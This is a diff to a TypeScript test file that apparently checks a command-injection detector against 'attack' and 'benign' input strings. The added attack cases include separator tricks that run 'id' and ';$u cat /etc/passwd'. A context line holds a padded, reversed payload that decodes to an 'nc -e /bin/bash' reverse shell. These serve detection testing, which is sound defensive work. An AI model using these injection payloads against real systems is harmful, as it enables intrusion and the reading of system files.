@@ -66,6 +66,9 @@ const attacks: [string, string][] = [
   ["process substitution as the value", ">(tee log)"],
   ["batch if on a parameter, before its block", 'if not %1 == "" ('],
   ["batch if comparison then a command", "if foo==bar echo x"],
+  ["a variable assigned then run after a separator", "x;a=id;$a"],
+  ["a shell named by its variable", "x;$SHELL -c id"],
+  ["an empty variable before a command", ";$u cat /etc/passwd"],
   ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
@@ -100,6 +103,7 @@ const benign: [string, string][] = [
   ["analytics cookie", "GS1.1.1764658893.1.1.1764658893.60.0.0$o1$g1$t1764658893$j60$l0$h0"],
   ["a note ending in a comparison (no batch syntax, no command)", "if foo=="],
   ["an arrow in text", "input >(filtered) output"],
+  ["unassigned variables after a semicolon (crs-932236-105)", "; $x $y $z are the unknowns"],
   ["user agent of a text browser", "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)"],
 ];
 
